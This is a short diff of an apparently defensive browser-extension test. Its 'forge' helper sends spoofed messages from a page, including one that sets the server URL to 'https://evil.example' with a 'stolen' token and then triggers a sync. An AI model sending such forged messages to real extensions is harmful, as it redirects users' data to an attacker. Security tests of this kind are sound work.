@@ -27,7 +27,7 @@ after(() => stack?.close());
 async function forge(page, extensionId) {
   return page.evaluate(async (id) => {
     const forged = [
-      { type: 'page-state', path: '/octo/hello-world/pull/77', visible: true, seq: Date.now() * 1000 },
+      { type: 'page-state', path: '/octo/hello-world/pull/77', visible: true, doc: 1, seq: 1 },
       { type: 'save-settings', serverUrl: 'https://evil.example', token: 'stolen' },
       { type: 'sync-now' },
     ];
